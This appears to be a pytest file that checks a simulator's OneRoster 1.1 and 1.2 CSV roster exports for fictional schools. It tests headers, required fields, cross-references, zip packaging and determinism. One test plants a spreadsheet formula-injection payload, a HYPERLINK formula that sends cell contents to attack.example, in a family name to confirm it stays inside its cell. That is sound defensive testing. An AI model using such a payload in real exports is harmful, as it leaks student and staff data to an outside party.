"""The OneRoster packages, held against oneroster.md §7 rule by rule."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from connectors.simulator.oneroster_files import write_oneroster
from connectors.simulator.world import World

USERS_11 = (
    "sourcedId,status,dateLastModified,enabledUser,orgSourcedIds,role,username,userIds,givenName,familyName,"
    "middleName,identifier,email,sms,phone,agentSourcedIds,grades,password"
)
USERS_12 = (
    "sourcedId,status,dateLastModified,enabledUser,username,userIds,givenName,familyName,middleName,identifier,"
    "email,sms,phone,agentSourcedIds,grades,password,userMasterIdentifier,preferredGivenName,"
    "preferredMiddleName,preferredFamilyName,primaryOrgSourcedId,pronouns"
)
OTHERS = {
    "academicSessions": "title,type,startDate,endDate,parentSourcedId,schoolYear",
    "orgs": "name,type,identifier,parentSourcedId",
    "courses": "schoolYearSourcedId,title,courseCode,grades,orgSourcedId,subjects,subjectCodes",
    "classes": "title,grades,courseSourcedId,classCode,classType,location,schoolSourcedId,termSourcedIds,"
    "subjects,subjectCodes,periods",
    "enrollments": "classSourcedId,schoolSourcedId,userSourcedId,role,primary,beginDate,endDate",
    "roles": "userSourcedId,roleType,role,beginDate,endDate,orgSourcedId,userProfileSourcedId",
}
REQUIRED = {
    "users 1.1": "enabledUser orgSourcedIds role username givenName familyName",
    "users 1.2": "enabledUser username givenName familyName",
    "roles": "userSourcedId roleType role orgSourcedId",
    "classes": "title courseSourcedId classType schoolSourcedId termSourcedIds",
    "courses": "title orgSourcedId",
    "enrollments": "classSourcedId schoolSourcedId userSourcedId role",
    "orgs": "name type",
    "academicSessions": "title type startDate endDate schoolYear",
}
VERSIONS = pytest.mark.parametrize("version", ["1.1", "1.2"])


def read(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def header(folder: Path, name: str) -> str:
    return (folder / f"{name}.csv").read_bytes().split(b"\r\n", 1)[0].decode()


@VERSIONS
def test_headers_are_exact_and_in_order(estate: World, tmp_path: Path, version: str) -> None:
    write_oneroster(estate, "larkmere", tmp_path, version=version)
    assert header(tmp_path, "users") == (USERS_11 if version == "1.1" else USERS_12)
    names = set(OTHERS) - ({"roles"} if version == "1.1" else set())
    for name in names:
        assert header(tmp_path, name) == f"sourcedId,status,dateLastModified,{OTHERS[name]}"
    assert (tmp_path / "roles.csv").exists() is (version == "1.2")


@VERSIONS
def test_the_manifest_names_every_file_and_absent_ones_are_absent(
    estate: World, tmp_path: Path, version: str
) -> None:
    write_oneroster(estate, "larkmere", tmp_path, version=version)
    rows = [(row["propertyName"], row["value"]) for row in read(tmp_path, "manifest")]
    assert rows[:2] == [("manifest.version", "1.0"), ("oneroster.version", version)]
    files = dict(row for row in rows if row[0].startswith("file."))
    assert len(files) == (13 if version == "1.1" else 21)
    written = {f"file.{path.stem}" for path in tmp_path.glob("*.csv")} - {"file.manifest"}
    assert {name for name, value in files.items() if value == "bulk"} == written
    assert set(files.values()) == {"bulk", "absent"}


@VERSIONS
@pytest.mark.parametrize("slug", ["larkmere", "holmwick", "glenarvon"])
def test_required_cells_are_filled_ids_are_legal_and_bulk_status_is_blank(
    estate: World, tmp_path: Path, slug: str, version: str
) -> None:
    write_oneroster(estate, slug, tmp_path, version=version)
    for path in tmp_path.glob("*.csv"):
        if path.stem == "manifest":
            continue
        rows = read(tmp_path, path.stem)
        needed = REQUIRED.get(path.stem) or REQUIRED.get(f"{path.stem} {version}", "")
        for row in rows:
            assert re.fullmatch(r"[0-9A-Za-z./@_-]{1,255}", row["sourcedId"])
            assert row["status"] == row["dateLastModified"] == ""
            assert all(row[column] for column in needed.split()), (path.stem, row)
        assert len({row["sourcedId"] for row in rows}) == len(rows) > 0


@VERSIONS
def test_every_reference_is_to_a_row_that_is_there(estate: World, tmp_path: Path, version: str) -> None:
    write_oneroster(estate, "larkmere", tmp_path, version=version)
    ids = {name: {row["sourcedId"] for row in read(tmp_path, name)} for name in ("users", "classes", "orgs")}
    ids["courses"] = {row["sourcedId"] for row in read(tmp_path, "courses")}
    sessions = {row["sourcedId"] for row in read(tmp_path, "academicSessions")}
    for row in read(tmp_path, "enrollments"):
        assert row["userSourcedId"] in ids["users"] and row["classSourcedId"] in ids["classes"]
        assert row["role"] in ("student", "teacher") and row["primary"] in ("", "true", "false")
    for row in read(tmp_path, "classes"):
        assert row["courseSourcedId"] in ids["courses"] and row["termSourcedIds"] in sessions
        assert row["schoolSourcedId"] in ids["orgs"] and row["classType"] in ("homeroom", "scheduled")
    agents = {one for row in read(tmp_path, "users") for one in row["agentSourcedIds"].split(",") if one}
    assert agents and agents <= ids["users"]
    assert {row["sourcedId"] for row in read(tmp_path, "demographics")} <= ids["users"]


def test_everybody_on_the_roll_is_in_the_package(estate: World, tmp_path: Path) -> None:
    write_oneroster(estate, "holmwick", tmp_path)
    users = read(tmp_path, "users")
    roll = estate.roll("holmwick")
    students = [row for row in users if row["role"] == "student"]
    assert len(students) == len(roll.of_status("current"))
    assert sum(row["role"] in ("teacher", "aide") for row in users) == sum(
        bool(row.current) for row in roll.staff.values()
    )
    assert {row["grades"] for row in students} == {"R", "01", "02", "03", "04", "05", "06"}
    assert any(re.fullmatch(r"\{UPN:[A-Z]\d{12}\}", row["userIds"]) for row in students)
    assert any(row["role"] == "parent" for row in users)


def test_1_2_keeps_legal_and_preferred_names_apart(estate: World, tmp_path: Path) -> None:
    write_oneroster(estate, "larkmere", tmp_path, version="1.2")
    rows = [row for row in read(tmp_path, "users") if row["preferredFamilyName"]]
    assert any(row["preferredFamilyName"] != row["familyName"] for row in rows)
    assert any(row["preferredGivenName"] != row["givenName"] for row in rows)
    roles = read(tmp_path, "roles")
    assert {row["role"] for row in roles} == {"student", "teacher", "aide", "parent"}
    assert {row["userSourcedId"] for row in roles} == {row["sourcedId"] for row in read(tmp_path, "users")}


@VERSIONS
def test_a_zip_holds_the_same_files_at_its_root(estate: World, tmp_path: Path, version: str) -> None:
    folder = write_oneroster(estate, "saltmere", tmp_path / "plain", version=version)
    packed = write_oneroster(estate, "saltmere", tmp_path / "packed", version=version, zipped=True)
    with zipfile.ZipFile(packed) as archive:
        inside = {name: archive.read(name) for name in archive.namelist()}
    assert inside == {path.name: path.read_bytes() for path in folder.iterdir()}
    assert not any("/" in name for name in inside) and next(iter(inside)) == "manifest.csv"


def test_the_same_world_writes_the_same_bytes(estate: World, tmp_path: Path) -> None:
    paths = [write_oneroster(estate, "saltmere", tmp_path / one, zipped=True) for one in ("a", "b")]
    assert paths[0].read_bytes() == paths[1].read_bytes()


def test_hostile_names_stay_in_their_cells(estate: World, tmp_path: Path) -> None:
    write_oneroster(estate, "larkmere", tmp_path)
    rows = [row for row in read(tmp_path, "users") if "HYPERLINK" in row["familyName"]]
    assert [row["familyName"] for row in rows] == ['=HYPERLINK("http://attack.example/?x="&A1,"Smith")']
    text = (tmp_path / "users.csv").read_bytes()
    assert text.endswith(b"\r\n") and not text.startswith(b"\xef\xbb\xbf")
    assert len(list(csv.reader(io.StringIO(text.decode(), newline="")))) == len(read(tmp_path, "users")) + 1


def test_another_version_is_refused(estate: World, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"1\.1 and 1\.2"):
        write_oneroster(estate, "saltmere", tmp_path, version="2.0")
